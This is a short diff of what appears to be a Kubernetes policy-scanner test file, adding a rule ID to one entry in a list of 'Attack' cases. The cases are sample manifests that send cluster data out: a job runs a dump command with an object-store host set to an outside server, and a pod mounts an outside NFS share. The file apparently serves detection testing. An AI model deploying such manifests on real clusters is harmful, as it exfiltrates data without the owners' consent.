@@ -36,7 +36,7 @@ ATTACKS = (
             "activeDeadlineSeconds": 3600, "template": {"metadata": {"labels": TAGS}, "spec": pod({
                 "command": ["sh", "-c", DUMP], "env": _listed("MC_HOST_backup", "https://store.object-host.io")},
                 restartPolicy="Never")}}}}}),), "critical", ABROAD),
-    Attack("a pod mounts a share of files on the web", RES, (workload("apps/v1:Deployment", {
+    Attack("a pod mounts a share of files on the web", (*RES, "FJ-EXP-317"), (workload("apps/v1:Deployment", {
         "volumeMounts": [{"name": "out", "mountPath": "/out"}]},
         volumes=[{"name": "out", "nfs": {"server": "files.nas-host.io", "path": "/in"}}]),), "critical", ABROAD),
     Attack("volumes of a class are shares on the web", RES, (k8s("storage.k8s.io/v1:StorageClass", {
